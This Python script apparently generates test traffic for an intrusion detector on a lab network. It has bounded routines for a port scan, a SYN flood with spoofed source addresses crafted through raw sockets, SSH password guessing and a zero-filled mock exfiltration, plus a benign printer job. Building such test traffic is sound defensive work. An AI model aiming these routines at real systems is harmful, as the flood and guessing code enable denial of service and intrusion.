"""Four attacks on the site's servers, each bounded in time and count, from one client.

    attacks.py scan | flood | guess | steal

And what is none, but new: attacks.py job, which prints on a printer that nobody used before.
"""
import random
import socket
import struct
import sys
import time

ATTACKER = "10.77.1.20"


def connect(server, port, timeout, client=ATTACKER):
    made = socket.socket()
    made.settimeout(timeout)
    made.bind((client, 0))
    made.connect((server, port))
    return made


def scan():
    """A port scan: 800 ports of one server, 200 a second."""
    for port in random.Random(1).sample(range(1, 10000), 800):
        try:
            connect("10.77.2.3", port, 0.2).close()
        except OSError:
            pass
        time.sleep(0.005)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood():
    """A SYN flood: 3,000 SYNs for the web server in four seconds, from addresses that nobody has."""
    rng = random.Random(2)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton("10.77.2.2")
    for i in range(3000):
        source = socket.inet_aton(f"10.77.1.{rng.randrange(100, 250)}")
        tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), 80, rng.getrandbits(32), 0, 5 << 4,
                          2, 8192, 0, 0)
        pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i, 0, 64, 6, 0, source, target)
        raw.sendto(ip + tcp, ("10.77.2.2", 0))
        if i % 15 == 0:
            time.sleep(0.02)


def guess():
    """Slow guessing of passwords: six log-ins a second for fifteen seconds, three guesses each."""
    for _ in range(90):
        begun = time.monotonic()
        try:
            made = connect("10.77.2.4", 22, 1)
            made.recv(100)
            for _ in range(3):
                made.sendall(b"password wrong\n")
                made.recv(100)
            made.close()
        except OSError:
            pass
        time.sleep(max(0.0, 1 / 6 - (time.monotonic() - begun)))


def steal():
    """An exfiltration: forty megabytes to a port that nobody uses."""
    made = connect("10.77.2.4", 8080, 10)
    for _ in range(40):
        made.sendall(bytes(1 << 20))
    made.shutdown(socket.SHUT_WR)
    made.recv(10)
    made.close()


def job():
    """Thirty kilobytes for a printer, by somebody who does nothing else: no alert of the same stands before."""
    made = connect("10.77.2.2", 515, 10, client="10.77.1.21")
    made.sendall(bytes(30_000))
    made.shutdown(socket.SHUT_WR)
    made.recv(10)
    made.close()


{"scan": scan, "flood": flood, "guess": guess, "steal": steal, "job": job}[sys.argv[1]]()
